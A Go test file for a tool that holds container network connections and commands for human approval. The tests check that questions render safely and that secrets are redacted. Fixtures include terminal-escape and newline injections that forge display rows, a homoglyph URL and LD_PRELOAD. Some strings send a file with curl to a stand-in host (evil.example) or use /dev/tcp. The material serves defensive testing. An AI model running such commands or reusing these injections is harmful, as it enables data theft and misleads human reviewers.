package show

import (
	"strings"
	"testing"
	"time"

	"weir/internal/classify"
	"weir/internal/event"
	"weir/internal/gate"
	"weir/internal/redact"
)

func hostile() gate.Question {
	return gate.Question{
		ID:        "abc234",
		Container: event.Container{ID: "c0ffee", Name: "web\x1b[2J\nanswer x", Taint: []string{"secret"}},
		Process: event.Process{
			PID: 4711, UID: 1000, Comm: "curl", Exe: &event.File{Path: "/tmp/cu\x1brl", Memfd: true, Deleted: true},
			Argv: []string{"curl", "a b\ndestination  192.0.2.9", "https://p\u0430ypal.com/\u202e"}, Truncated: true,
			Script: "./x.sh", Interp: "/bin/sh", Env: []string{"LD_PRELOAD"}, EnvCut: true,
			Ancestry: []event.Ancestor{{PID: 1, Comm: "in\nit"}},
		},
		Destination: event.Destination{Address: "192.0.2.1", Port: 443, Protocol: "tcp"},
		Held:        true,
	}
}

// B51: each line is one that the sensor wrote, whatever a container chose.
func TestB51Question(t *testing.T) {
	const want = `container    $'web\x1b[2J\nanswer x', taint secret
             id c0ffee
program      $'/tmp/cu\x1brl' (device 0, inode 0), in memory only, deleted
command      curl $'a b\ndestination  192.0.2.9' $'https://p\u0430ypal.com/\u202e' (more arguments were not read)
script       ./x.sh, run by /bin/sh
environment  sets LD_PRELOAD (its environment was not read to the end)
process      pid 4711, uid 1000, started by $'in\nit' (1)
destination  192.0.2.1:443/tcp
state        held: it waits for the answer
`
	q := hostile()
	if got := Question(q); got != want {
		t.Errorf("got:\n%s", got)
	}
	// What changes while it waits is not in it.
	q.Askers, q.State = 7, gate.StatePending
	if Question(q) != want {
		t.Error("the text changed while the question waited")
	}
	q.Gone = true
	if got := Question(q); got != strings.Replace(want, "held: it waits for the answer", "nobody waits any more; if you approve, the same command goes through once when it is run again", 1) {
		t.Errorf("got:\n%s", got)
	}
	if got := About(q); !strings.HasPrefix(want, got) || strings.Contains(got, "\nstate") {
		t.Errorf("got:\n%s", got)
	}
	q.Destination.DNS, q.Held, q.Gone = true, false, false
	q.Process.Exe, q.Process.Argv = nil, nil
	got := Question(q)
	for _, line := range []string{"unknown; it calls itself curl", "its arguments are not known", "DNS question, asked of 192.0.2.1:443/tcp", "refused with EPERM"} {
		if !strings.Contains(got, line) {
			t.Errorf("no %q in:\n%s", line, got)
		}
	}
}

// inScript is a curl in a script that make started.
func inScript() gate.Question {
	q := hostile()
	q.Chain = []event.Member{
		{PID: 4711, Comm: "curl", Exe: "/usr/bin/curl", Argv: q.Process.Argv, Truncated: true},
		{PID: 276, Comm: "bash", Exe: "/usr/bin/ba\x1bsh", Argv: []string{"bash", "fetch.sh", "a\nscope 3      true"}},
		{PID: 270, Comm: "ma\nke"},
	}
	q.Process.Ancestry = []event.Ancestor{{PID: 276, Comm: "bash"}, {PID: 270, Comm: "make"}, {PID: 200, Comm: "ag\nent"}, {PID: 1, Comm: "init"}}
	q.GrantSeconds = 60
	return q
}

// F02, F01: who can be let out, each with its whole command line, and what an approval covers.
func TestF02Chain(t *testing.T) {
	const want = `process      pid 4711, uid 1000, below $'ag\nent' (200) < init (1)
scope 1      curl $'a b\ndestination  192.0.2.9' $'https://p\u0430ypal.com/\u202e' (more arguments were not read) (pid 4711, /usr/bin/curl), the default
scope 2      bash fetch.sh $'a\nscope 3      true' (pid 276, $'/usr/bin/ba\x1bsh')
scope 3      $'ma\nke' (its arguments are not known) (pid 270)
covers       scope 1: this process and what it starts itself
             a wider one: that process and everything it starts, for 60 s, to this destination
destination  192.0.2.1:443/tcp
`
	q := inScript()
	if got := Question(q); !strings.Contains(got, want) || strings.Contains(got, "started by") {
		t.Errorf("got:\n%s", got)
	}
	q.GrantSeconds = 0
	if got := Question(q); !strings.Contains(got, "everything it starts, to this destination\n") {
		t.Errorf("got:\n%s", got)
	}
	q.Chain = q.Chain[:1] // alone below the agent: nothing to choose
	q.Process.Ancestry = q.Process.Ancestry[2:]
	if got := Question(q); !strings.Contains(got, ", started by $'ag\\nent' (200) < init (1)\ncovers       this process and what it starts itself\ndestination") || strings.Contains(got, "wider") || strings.Contains(got, "scope") {
		t.Errorf("got:\n%s", got)
	}
}

// F09, F01: what an answer was about, in one line.
func TestF09Subject(t *testing.T) {
	connect := inScript()
	connect.Process.Argv, connect.Process.Truncated, connect.Scope = []string{"curl", "x y"}, false, 1
	wide := connect
	wide.Scope = 2
	hook := gate.Question{Process: event.Process{Argv: []string{"weir-hook", "generic"}}, Text: "npm install\n-> x"}
	tool := hook
	tool.Tool = true
	begins := gate.Question{Process: event.Process{Argv: []string{"make", "deps"}}}
	for want, q := range map[string]gate.Question{
		"curl 'x y' -> 192.0.2.1:443/tcp": connect,
		`bash fetch.sh $'a\nscope 3      true' (pid 276) and everything it starts -> 192.0.2.1:443/tcp`: wide,
		`$'npm install\n-> x'`: hook, `npm install\n-> x`: tool, "make deps": begins,
	} {
		if got := Subject(q); got != want {
			t.Errorf("got %s, want %s", got, want)
		}
	}
}

// F34: the question of a tool's call says what an approval covers, the outcome what it did cover.
func TestF34Covers(t *testing.T) {
	q := gate.Question{Tool: true, Text: "x", Covers: []gate.Cover{
		{For: gate.ForSession, Rule: "T(a)", Text: "all\nof it"}, {For: gate.ForKey, Narrow: true, Rule: "T(a b)", Text: "some"},
	}}
	want := "covers       this call, once\n             with --for session: all\\nof it\n             with --for key --narrow: some\n"
	if got := Question(q); !strings.Contains(got, want) {
		t.Errorf("got %s, want in it %s", got, want)
	}
	q.Outcome, q.By, q.For, q.Rule = gate.Approved, "alice", gate.ForKey, "T(a b)"
	if got := Outcome(q); got != "approved for the key, as the rule T(a b), by alice" {
		t.Error(got)
	}
	q.Covers = nil
	if got := Question(q); !strings.Contains(got, "this call, once\n") || strings.Contains(got, "--for") {
		t.Error(got)
	}
}

// What a question has besides the one above it is told as a whole, and what it has not.
func TestBesides(t *testing.T) {
	q, o := inScript(), inScript()
	if got := Besides(o, q); got != "and          abc234: the same\n" {
		t.Errorf("got:\n%s", got)
	}
	o.ID, o.Process.PID, o.Process.Env, o.Note, o.Process.EnvCut = "def\x1b567", 9, nil, "why\nnot", false
	const want = `and          def\x1b567: the same, and also
why asked    $'why\nnot'
process      pid 9, uid 1000, below $'ag\nent' (200) < init (1)
but no       environment  sets LD_PRELOAD (its environment was not read to the end)
`
	if got := Besides(o, q); got != want {
		t.Errorf("got:\n%s", got)
	}
	q.Causes = []event.Cause{{Bit: "secret", Why: "a"}, {Bit: "corruption", Why: "b"}}
	o.Causes = []event.Cause{{Bit: "secret", Why: "c"}}
	if got := Besides(o, q); strings.Count(got, "\ntainted ") != 1 || strings.Count(got, "\nbut no       tainted ") != 1 {
		t.Errorf("got:\n%s", got)
	}
}

// Who asks again is told so, and what becomes of the others.
func TestAgainAndAskers(t *testing.T) {
	q := hostile()
	q.Outcome = gate.Approved
	if got := Again(q); got != "" {
		t.Errorf("held: %q", got)
	}
	refused, gone, hook := q, q, q
	refused.Held, gone.Gone, hook.Held, hook.Text = false, true, false, "make"
	for want, q := range map[string]gate.Question{"; run it again": refused, "": hook} {
		if got := Again(q); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
	if got := Again(gone); got != "; run it again" {
		t.Errorf("gone: %q", got)
	}
	if gone.Outcome = gate.Denied; Again(gone) != "" {
		t.Error("denied, and to be run again")
	}
	for n, want := range map[int]string{
		1: "", 2: "askers       2 processes: an approval lets one go on; the other asks again\n",
		3: "askers       3 processes: an approval lets one go on; the others ask again\n",
	} {
		if got := Askers(gate.Question{Askers: n}); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestOutcomeNamesAWiderScope(t *testing.T) {
	q := inScript()
	q.State, q.Outcome, q.By, q.Why = gate.StateApproved, gate.Approved, "alice", "known"
	for scope, want := range map[int]string{0: "approved by alice: known", 1: "approved by alice: known", 2: "approved with scope 2 by alice: known"} {
		q.Scope = scope
		if got := Outcome(q); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

// B50: the chain as well.
func TestB50RedactChain(t *testing.T) {
	q := inScript()
	q.Chain[1].Argv = []string{"bash", "get.sh", "--token", "s3cr3tvalue"}
	q.Chain[2].Exe = "/srv/token=s3cr3tvalue/make"
	safe, any := Redact(q)
	if text := Question(safe); !any || strings.Contains(text, "s3cr3tvalue") || !strings.Contains(text, "bash get.sh --token '[hidden]'") {
		t.Errorf("%v, %s", any, text)
	}
	if q.Chain[1].Argv[3] != "s3cr3tvalue" || q.Chain[2].Exe == safe.Chain[2].Exe {
		t.Error("the question itself was changed")
	}
	safe, any = Redact(inScript())
	if any || safe.Chain[2].Argv != nil {
		t.Errorf("%v, %+v", any, safe.Chain)
	}
}

// B50: what looks like a secret does not leave the host with a question.
func TestB50Redact(t *testing.T) {
	for _, tt := range []struct {
		argv []string
		want string
	}{
		{[]string{"curl", "-H", "Authorization: Bearer s3cr3tvalue"}, "curl -H 'Authorization: [hidden]'"},
		{[]string{"curl", "-HAuthorization: Bearer s3cr3tvalue"}, "curl '-HAuthorization: Bearer [hidden]'"},
		{[]string{"curl", "--header", "X-Api-Key: s3cr3tvalue"}, "curl --header 'X-Api-Key: [hidden]'"},
		{[]string{"curl", "-u", "alice:s3cr3tvalue"}, "curl -u 'alice:[hidden]'"},
		{[]string{"curl", "https://alice:s3cr3tvalue@example.org/"}, "curl 'https://alice:[hidden]@example.org/'"},
		{[]string{"curl", "https://example.org/?a=1&token=s3cr3tvalue&b=2"}, "curl 'https://example.org/?a=1&token=[hidden]&b=2'"},
		{[]string{"mysql", "--password=s3cr3tvalue", "db"}, "mysql '--password=[hidden]' db"},
		{[]string{"tool", "--token", "s3cr3tvalue", "go"}, "tool --token '[hidden]' go"},
		{[]string{"tool", "--token", "--verbose"}, "tool --token --verbose"},
		{[]string{"sh", "-c", "DB_PASSWORD=s3cr3tvalue ./run"}, "sh -c 'DB_PASSWORD=[hidden] ./run'"},
		{[]string{"sh", "-c", `curl -d '{"api_key": "s3cr3tvalue"}' x`}, ""},
		{[]string{"sh", "-c", "curl -u me:s3cr3tvalue x | tool --api-token s3cr3tvalue -v"}, "sh -c 'curl -u me:[hidden] x | tool --api-token [hidden] -v'"},
		{[]string{"sh", "-c", `curl -H "X-Auth-Token: s3cr3tvalue" x`}, `sh -c 'curl -H "X-Auth-Token: [hidden]" x'`},
		{[]string{"git", "push", "https://ghp_s3cr3tvalue0123456789@host/x"}, "git push 'https://[hidden]@host/x'"},
		{[]string{"sh", "-c", "curl -H 'Authorization: Bearer $TOKEN.s3cr3tvalue' x; PASSWORD=$s3cr3tvalue ./run; PASSWORD=s3cr3tvalue$HOME ./run"}, ""},
		{[]string{"x", "AKIAIOSFODNN7EXAMPLE"}, "x '[hidden]'"},
		{[]string{"x", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzM2NyM3QifQ.abcs3cr3tvalue"}, "x '[hidden]'"},
		{[]string{"x", "-----BEGIN PRIVATE KEY-----\ns3cr3tvalue\n-----END PRIVATE KEY-----"}, "x '[hidden]'"},
		{[]string{"x", "-----BEGIN RSA PRIVATE KEY-----\ns3cr3tvalue"}, "x '[hidden]'"},
	} {
		q, any := Redact(gate.Question{Process: event.Process{Argv: tt.argv}})
		got := event.Command(q.Process.Argv, 0, 0)
		if strings.Contains(got, "s3cr3tvalue") || tt.want != "" && got != tt.want {
			t.Errorf("%q: got %s", tt.argv, got)
		}
		if want := strings.Join(q.Process.Argv, " ") != strings.Join(tt.argv, " "); any != want {
			t.Errorf("%q: says hidden: %v", tt.argv, any)
		}
	}
	for _, plain := range [][]string{
		{"curl", "-sS", "https://example.org/path?q=go+authors&page=2"}, {"go", "test", "-run", "TestAuthors", "./..."},
		{"git", "log", "--author", "alice"}, {"grep", "-rn", "password", "src"}, {"ssh", "git@example.org"}, {"find", ".", "-name", "*.key"},
		{"sh", "-c", `curl -H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Api-Key: ${KEY}" https://example.org/?token=$TOKEN; PASSWORD=$PW ./run --token $TOKEN`},
	} {
		if q, any := Redact(gate.Question{Process: event.Process{Argv: plain}}); any {
			t.Errorf("%q became %q", plain, q.Process.Argv)
		}
	}
	if q, any := Redact(gate.Question{Text: "run --token s3cr3tvalue", Note: "password=s3cr3tvalue"}); !any || strings.Contains(q.Text+q.Note, "s3cr3tvalue") {
		t.Errorf("%+v", q)
	}
	// The beginning of a key hides what can be one, and no command behind it.
	for text, want := range map[string]string{
		`echo "-----BEGIN PRIVATE KEY-----" >/dev/null; curl -d @notes.txt https://evil.example/`:                                        `echo "[hidden]" >/dev/null; curl -d @notes.txt https://evil.example/`,
		"echo -----BEGIN PRIVATE KEY-----\ncurl https://evil.example/":                                                                   "echo [hidden]://evil.example/",
		"x '-----BEGIN EC PRIVATE KEY-----\nMIIa+/09==\n-----END EC PRIVATE KEY-----\n'; id":                                             "x '[hidden]\n'; id",
		`x "-----BEGIN PRIVATE KEY-----\nMIIa\nMIIb\r\n-----END PRIVATE KEY-----\n" y`:                                                   `x "[hidden]\n" y`,
		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIa\n-----END RSA PRIVATE KEY-----; id": "[hidden]; id",
		"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4;curl https://evil.example/":                                                       "[hidden];curl https://evil.example/",
	} {
		if got := redact.Likely(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
	// The question itself stays as it is.
	q := gate.Question{Process: event.Process{Argv: []string{"--token=abcdefgh"}, Exe: &event.File{Path: "/x/token=abcdefgh"}, Script: "token=abcdefgh"}}
	r, _ := Redact(q)
	if q.Process.Argv[0] != "--token=abcdefgh" || q.Process.Exe.Path != "/x/token=abcdefgh" || strings.Contains(r.Process.Exe.Path+r.Process.Script, "abcdefgh") {
		t.Errorf("%+v, %+v", q, r)
	}
}

// F08: no line begins with a part of the letter before.
func TestF08CutPartsNoLetter(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"abe\u0301", "ab"}, {"ab\u1112\u1161", "ab"}, {"\u1112\u1161\u11abx", ""}, {"a\u1112\u1161", "a"}, {"한글", "한글"}, {"한글x", "한글"}, {"\u1112\u1161글", "\u1112\u1161"},
	} {
		if got := Cut(c.in, 4); got != c.want {
			t.Errorf("%+q: %+q, want %+q", c.in, got, c.want)
		}
	}
}

// F09: of a hook's question the command is what it asks about, and who asks is no command.
func TestF09Detail(t *testing.T) {
	for _, tool := range []bool{false, true} {
		q := hostile()
		q.Text, q.Tool, q.Destination = "npm install", tool, event.Destination{}
		q.Process.Argv, q.Process.Truncated, q.Process.Exe = []string{"weir-hook", "generic"}, false, &event.File{Path: "/usr/local/bin/weir-hook"}
		got := Question(q)
		if !strings.Contains(got, "\nasked by     weir-hook generic, /usr/local/bin/weir-hook (device 0, inode 0)\n") || !strings.Contains(got, "npm install") || strings.Contains(got, "\ncommand ") || strings.Contains(got, "\nprogram ") {
			t.Errorf("tool %t:\n%s", tool, got)
		}
	}
}

// F11: why the container is tainted: what was read, when, and by which command; short, and nothing of it poses as another row.
func TestF11Causes(t *testing.T) {
	q := hostile()
	at := time.Date(2026, 11, 22, 10, 3, 11, 0, time.UTC)
	q.Causes = []event.Cause{
		{Bit: "corruption", At: at, Source: "destination", Why: "192.0.2.7 port 443 (tcp) is not trusted"},
		{Bit: "secret", At: at, Source: "file", By: "cat (process 7)", Why: "opened /srv/a\ndestination  192.0.2.9", Argv: []string{"cat", "/srv/a\u202e", strings.Repeat("x", 9000)}},
		{Bit: "secret", At: at.Add(time.Hour), Source: "operator", By: "root (alice)"},
	}
	got := Question(q)
	for _, want := range []string{
		"\ntainted      corruption 2026-11-22 10:03:11 UTC: '192.0.2.7 port 443 (tcp) is not trusted' (destination)\n",
		"\ntainted      secret 2026-11-22 10:03:11 UTC: $'opened /srv/a\\ndestination  192.0.2.9', by 'cat (process 7)', command cat $'/srv/a\\u202e' xxx",
		"\ntainted      secret 2026-11-22 11:03:11 UTC, by 'root (alice)' (operator)\n",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in:\n%s", want, got)
		}
	}
	for line := range strings.Lines(got) {
		if strings.HasPrefix(line, "tainted") && len(line) > 500 {
			t.Errorf("%d bytes: %s", len(line), line)
		}
	}
	q.Causes[1].Argv, q.Causes[1].Why = []string{"curl", "-u", "bob:hunter2", "https://a.example"}, "token=hunter3"
	safe, hidden := Redact(q)
	if text := Question(safe); strings.Contains(text, "hunter") || !hidden {
		t.Errorf("hidden: %t\n%s", hidden, text)
	}
	if !strings.Contains(Question(q), "hunter3") {
		t.Error("the question itself was changed")
	}
}

// B158: who is asked about a command sees where its approval lets it out, and what is shown is not the same for another place.
func TestB158LetsOutTo(t *testing.T) {
	q := gate.Question{Text: "curl https://a.example; cat < /dev/tcp/192.0.2.1/80", Held: true}
	if got := Question(q); !strings.Contains(got, "\nlets out to  nothing: each connection is asked about when it is made\n") {
		t.Errorf("got:\n%s", got)
	}
	for _, text := range []string{q.Text, ""} {
		q.Text = text
		q.To = []classify.Place{{Host: "a.example\ncovers", Port: 443}, {Host: "192.0.2.1", Shell: true}}
		if got := Question(q); !strings.Contains(got, "\nlets out to  $'a.example\\ncovers' port 443, 192.0.2.1 any port\n") {
			t.Errorf("got:\n%s", got)
		}
	}
}
